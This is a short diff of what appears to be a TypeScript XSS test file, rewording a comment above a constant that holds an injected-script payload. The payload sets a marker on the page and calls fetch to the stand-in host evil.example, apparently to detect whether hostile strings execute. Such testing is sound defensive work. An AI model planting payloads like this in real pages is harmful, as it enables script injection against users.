@@ -1,4 +1,4 @@
-/** The effect of a script in a hostile string if it runs: a mark in the page's document, and a request. */
+/** What a hostile string's script does if it is executed: it leaves a mark in the page's document, and sends a request. */
 const act = "document.documentElement.dataset.ran=1;fetch('http://evil.example/ran')"
 
 const scripts: readonly string[] = [
